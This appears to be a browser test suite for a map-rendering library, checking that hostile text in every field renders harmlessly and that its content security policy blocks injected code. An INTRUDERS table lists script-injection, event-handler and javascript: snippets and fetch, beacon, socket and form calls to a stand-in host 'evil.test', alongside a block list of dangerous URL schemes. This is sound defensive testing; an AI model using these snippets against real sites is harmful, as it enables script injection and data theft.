"""The page with every payload in every field, in a real browser: all of it is shown, none of it does anything.

A payload stands in each field with the name of the field behind it, so that one page tells of all of them.
"""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from shapely.geometry import MultiPolygon, Point, box

from mapgen import render
from mapgen.escape import legible
from mapgen.render import to_folium
from mapgen.scene import Facts, Ground, GroundLayer, Layer, Mark, MarkType, Scene, Stratum, Token

pytestmark = pytest.mark.browser

WATCH = """window.__violations = [];
addEventListener("securitypolicyviolation", (event) =>
  window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`), true);"""
TEXTS = """(root) => {
  const texts = new Set();
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_TEXT);
  for (let node = root; node; node = walker.nextNode()) {
    if (["SCRIPT", "STYLE"].includes(node.nodeName)) continue;
    if (node.nodeType === Node.TEXT_NODE) texts.add(node.data);
    else for (const { value } of node.attributes) texts.add(value);
  }
  return texts;
}"""
SHOWN = f"""() => {{
  const seen = {TEXTS}, texts = seen(document.documentElement);
  const note = (root) => root && seen(root).forEach((text) => texts.add(text));
  [...mapgen.marks.values()].forEach((mark, i) => {{
    mapgen.cardOf([mark]).forEach(note);
    if (i % 10) return;
    mapgen.openCard(mapgen.map, [mark], mapgen.map.getCenter(), null);
    note(document.querySelector(".card"));
    mapgen.closeCard(false);
  }});
  mapgen.steps.filter((_, i) => i % 10 === 0).forEach((step) => {{
    mapgen.go(step);
    note(mapgen.bar);
  }});
  return [...texts];
}}"""
CENSUS = """(known) => {
  const all = [...document.querySelectorAll("*")];
  const told = ["href", "src", "srcset", "action", "data", "poster", "style"];
  return {
    strange: [...new Set(all.map((one) => one.localName).filter((name) => !known.includes(name)))],
    handlers: all.flatMap((one) => [...one.attributes].map(({ name }) => name).filter((name) => name.startsWith("on"))),
    addresses: [...new Set(all.flatMap((one) => told.map((name) => one.getAttribute(name)).filter(Boolean)))],
    kept: all.filter((one) => one.localName === "a" && one.protocol !== "file:" && !one.relList.contains("noopener")).length,
    pwned: window.__pwned === undefined && !("__pwned" in window),
    violations: window.__violations || [],
  };
}"""
ELEMENTS = (  # noqa: SIM905
    "html head meta title link style script body a main header h1 h2 h3 p div section ol ul li strong span cite time "
    "button input figure figcaption img canvas footer svg path text tspan circle g bdi blockquote label br fieldset "
    "legend select option line i"
).split()
"""What the page is built of; nothing that a payload names is among it but what the page has itself."""
BAD = ("javascript", "vbscript", "data:text", "url(", "expression", "//evil", "blob:")
OF_CARD = ("text", "because", "quote", "source_title", "source_publisher", "source_credit", "alt", "credit")
PAGE = {
    *(f"map_{field}" for field in ("title", "subtitle", "description", "correction", "credits")),
    *(f"{of}_{field}" for of in ("place", "route", "venue", "step") for field in OF_CARD),
    *("place_name", "place_native", "place_category", "venue_name", "venue_category", "route_name"),
    *("step_title", "step_place", "step_when", "legend"),
}
"""The fields of which a reader of the page sees the text."""
TWIN = {
    *("map_title", "map_subtitle", "map_description", "map_credits"),
    *(f"{of}_{field}" for of in ("place", "route", "step") for field in OF_CARD[:5]),
    *("place_name", "place_native", "place_category", "route_name", "step_title", "step_when"),
}
"""The same without script."""


@pytest.fixture
def opened(browser, tmp_path):
    """Opens a page; it must ask for nothing, complain of nothing, and nothing of the data may run in it."""
    contexts, asked, errors = [], [], []

    def visit(html: bytes, query: str = "", *, script: bool = True):
        path = tmp_path / f"page{len(contexts)}.html"
        path.write_bytes(html)
        context = browser.new_context(viewport={"width": 1280, "height": 800}, java_script_enabled=script)
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(120_000)
        page.add_init_script(WATCH)
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (errors.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: errors.append(f"popup {popup.url}"))
        page.on("console", lambda told: errors.append(told.text) if told.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(f"{path.as_uri()}{query}")
        if script:
            page.wait_for_selector("html[data-mapgen=ready]")
        return page

    yield visit
    for context in contexts:
        context.close()
    assert errors == []
    assert [url for url in asked if not url.startswith(("file:///", "data:image/"))] == []


def page_of(scene) -> bytes:
    (artifact,) = render.artifacts(scene, ("html",))
    return artifact.data


def harmless(page) -> None:
    """Nothing ran, nothing was blocked, and the page is made of nothing but its own elements."""
    found = page.evaluate(CENSUS, ELEMENTS)
    assert found["pwned"]
    assert found["violations"] == found["strange"] == found["handlers"] == []
    assert found["kept"] == 0
    assert [one for one in found["addresses"] if any(word in one.lower() for word in BAD)] == []


def unseen(expected: dict[str, list[str]], shown: list[str]) -> list[str]:
    """The texts that stand nowhere as they are, or as they are legible."""
    whole = "\n".join(shown)
    return [
        f"{field}: {text!r}"
        for field, texts in sorted(expected.items())
        for text in texts
        if text not in whole and legible(text) not in whole
    ]


def test_every_payload_in_every_field_is_shown_as_it_is_and_does_nothing(opened, hostile, told_in):
    page = opened(page_of(hostile))
    shown = page.evaluate(SHOWN)
    harmless(page)
    assert unseen(told_in(hostile, PAGE), shown) == []


def test_the_list_says_all_of_it_without_script(opened, hostile, told_in):
    page = opened(page_of(hostile), script=False)
    shown = page.evaluate(f"[...({TEXTS})(document.documentElement)]")
    harmless(page)
    assert unseen(told_in(hostile, TWIN), shown) == []


def test_a_payload_alone_is_the_whole_text_of_its_element(opened, payloads, scene_with):
    """`textContent === input`, with nothing before or behind it; where a tab or blank ends a text it stays."""
    page = opened(page_of(scene_with(payloads, bare=True, title="One by one")), "?plain=1")
    names = page.evaluate("[...document.querySelectorAll('[data-place-id] > strong')].map((one) => one.textContent)")
    assert names == [legible(text) for text in payloads.values()]
    headings = page.evaluate(
        "[...mapgen.marks.values()].filter((one) => one.place && one.type === 'place')"
        ".map((one) => mapgen.cardOf([one])[0].querySelector('h2').firstChild.textContent)"
    )
    assert headings == list(payloads.values())
    harmless(page)


@pytest.mark.parametrize(
    "query", ["?static=1", "?lang=ko&theme=dark", "?theme=__proto__&lang=constructor&step=%3Cb%3E"]
)
def test_the_other_views_of_it_are_as_harmless(opened, scene_with, payloads, query):
    few = dict(list(payloads.items())[::4])
    harmless(opened(page_of(scene_with(few)), query))


def test_whoever_saves_it_through_folium_and_clicks_on_it_sees_text(opened, tmp_path, payloads, scene_with):
    """Also where languages and countries are none, and in what is related only."""

    def odd(mark):
        return replace(mark, native_lang=mark.name, country=mark.name, names={**mark.names, mark.name: mark.name})

    scene = scene_with(dict(list(payloads.items())[::8]))
    layers = tuple(replace(one, marks=tuple(map(odd, one.marks))) for one in scene.layers)
    steps = tuple(replace(one, related=not n % 3, places={one.title: one.title}) for n, one in enumerate(scene.steps))
    to_folium(replace(scene, layers=layers, steps=steps, draft=True, lengths=True)).save(tmp_path / "map.html")
    page = opened((tmp_path / "map.html").read_bytes())
    for pin in page.locator(".leaflet-pins-pane .pin").all():
        pin.dispatch_event("click")
        assert page.locator(".card").count() == 1
        page.keyboard.press("Escape")
    page.locator(".steps .step").first.click()
    harmless(page)


def test_a_long_list_shows_its_rows_as_they_are(opened, payloads):
    """More than 2,000 places: as columns, in a list of which only what is in view is there, counted by country."""
    texts = [*payloads.values(), *(f"Row {number}" for number in range(2_000))]
    marks = tuple(
        Mark(
            id=f"p{number}", place_id=f"p{number}", type=MarkType.PLACE, style=Token.STOP, order=number, name=text,
            geometry=Point(number % 50, number % 40), point=Point(number % 50, number % 40), native=text,
            native_lang="ko", facts=Facts(text=text, category=text, link="https://example.org/"),
        )
        for number, text in enumerate(texts)
    )  # fmt: skip
    extent = (0.0, 0.0, 50.0, 40.0)
    land = GroundLayer(kind="land", geometry=MultiPolygon([box(0, 0, 50, 40)]))
    scene = Scene(
        id="long", title="Long", extent=extent, ground=Ground(window=extent, layers=(land,)), credits=texts[:100],
        layers=(Layer(stratum=Stratum.PLACES, marks=marks),),
    )  # fmt: skip
    page = opened(page_of(scene))
    places = page.evaluate(
        """async () => {
          const found = [];
          for (let i = 0; i < mapgen.places.count; i += 1) {
            const mark = mapgen.places.mark(i);
            if (mark.order >= 200) continue;
            const card = document.createElement("div");
            card.append(...mapgen.cardOf([mark]).filter(Boolean));
            document.body.append(card);
            const text = (selector) => card.querySelector(selector).textContent;
            found.push([mark.order, mark.name, mark.native, mark.facts.text, mark.facts.category,
              card.querySelector("h2").firstChild.textContent, text("p.manner"), text("p:not(.manner)")]);
          }
          return found.sort((a, b) => a[0] - b[0]);
        }"""
    )
    assert len(places) == 200
    for (number, *told), text in zip(places, texts, strict=False):
        assert {legible(one) for one in told} == {legible(text)}, number
    harmless(page)


INTRUDERS = {
    "inline script": "document.body.append(Object.assign(document.createElement('script'), {textContent: '__pwned = 1'}))",
    "event handler": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"__pwned = 1\">')",
    "javascript address": "Object.assign(document.createElement('a'), {href: 'javascript:__pwned = 1'}).click()",
    "style attribute": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color:red\">x</p>')",
    "style element": "document.head.insertAdjacentHTML('beforeend', '<style>p{color:red}</style>')",
    "remote picture": "document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.test/x.png\">')",
    "remote script": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.test/x.js'}))",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.test/\"></iframe>')",
    "object": "document.body.insertAdjacentHTML('beforeend', '<object data=\"https://evil.test/\"></object>')",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.test/\">')",
    "fetch": "fetch('https://evil.test/').catch(() => 0)",
    "beacon": "navigator.sendBeacon('https://evil.test/', 'x')",
    "socket": "try { new WebSocket('wss://evil.test/') } catch (_) {}",
    "worker": "try { new Worker('data:text/javascript,0') } catch (_) {}",
    "timer with text": "try { setTimeout('__pwned = 1', 0) } catch (_) {}",
    "form": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.test/\"></form>'); "
    "document.forms[0].submit()",
}
"""What somebody could do who got as far as the page's own script."""


def test_the_policy_blocks_whatever_is_put_into_the_page(browser, tmp_path, scene_with):
    path = tmp_path / "page.html"
    path.write_bytes(page_of(scene_with({"plain": "Dandong"})))
    context = browser.new_context()
    page = context.new_page()
    answered: list[str] = []
    page.on("response", lambda answer: answered.append(answer.url))
    page.on("requestfailed", lambda request: answered.append(request.url) if request.failure != "csp" else None)
    page.add_init_script(WATCH)
    page.goto(path.as_uri())
    page.wait_for_selector("html[data-mapgen=ready]")
    assert page.evaluate("window.__violations") == []
    for name, code in INTRUDERS.items():
        before = page.evaluate("window.__violations.length")
        page.evaluate(f"() => {{ {code}; }}")
        page.wait_for_timeout(60)
        assert page.evaluate("window.__violations.length") > before, name
    assert page.evaluate("window.__pwned") is None
    page.evaluate("() => { setTimeout(() => { try { eval('1') } catch (error) { window.refused = error.name } }) }")
    page.wait_for_function("window.refused === 'EvalError'")
    assert [url for url in answered if not url.startswith(("file:///", "data:"))] == []
    context.close()


def test_a_notebook_shows_the_page_and_nothing_else(browser, tmp_path, scene_with, payloads):
    """`_repr_html_` is the page in the `srcdoc` of a frame, which escapes all of it once more."""
    few = dict(list(payloads.items())[1::4])
    inner = render.to_folium(scene_with(few))._repr_html_()
    path = tmp_path / "notebook.html"
    path.write_text(f"<!DOCTYPE html><meta charset=utf-8><body>{inner}</body>", encoding="utf-8")
    context = browser.new_context()
    page = context.new_page()
    asked, errors = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.add_init_script(WATCH)
    page.goto(path.as_uri())
    (frame,) = [one for one in page.frames if one.parent_frame]
    frame.wait_for_selector("html[data-mapgen=ready]", timeout=60_000)
    harmless(frame)
    assert page.evaluate("document.querySelectorAll('body *').length") == 2  # a box, the frame
    assert page.evaluate("window.__pwned") is None
    assert (errors, [url for url in asked if not url.startswith(("file:///", "data:image/", "about:"))]) == ([], [])
    context.close()


@pytest.mark.torture
@pytest.mark.parametrize("part", range(8))
def test_each_payload_alone_in_a_page_of_its_own(opened, payloads, scene_with, told_in, part):
    for name, text in list(payloads.items())[part::8]:
        scene = replace(scene_with({name: text}), id=f"p{part}")
        page = opened(page_of(scene))
        shown = page.evaluate(SHOWN)
        harmless(page)
        assert unseen(told_in(scene, PAGE), shown) == []
        for query in ("?static=1", "?plain=1", "?lang=ko"):
            harmless(opened(page_of(scene), query))


def test_no_browser_looks_a_link_up_before_it_is_followed(hostile):
    """The servers of names would learn who reads the page: some browsers ask them ahead for the host of each link."""
    head, _, rest = page_of(hostile).partition(b"</head>")
    assert b'<meta http-equiv="x-dns-prefetch-control" content="off">' in head
    assert b"<a href" in rest


def test_what_is_told_is_json(hostile):
    data = page_of(hostile).decode()
    block = data.split('id="mapgen-data">', 1)[1].split("</script>", 1)[0]
    assert json.loads(block)["title"] == hostile.title
    assert block.isascii()
    assert not set("<>&'$`") & set(block)
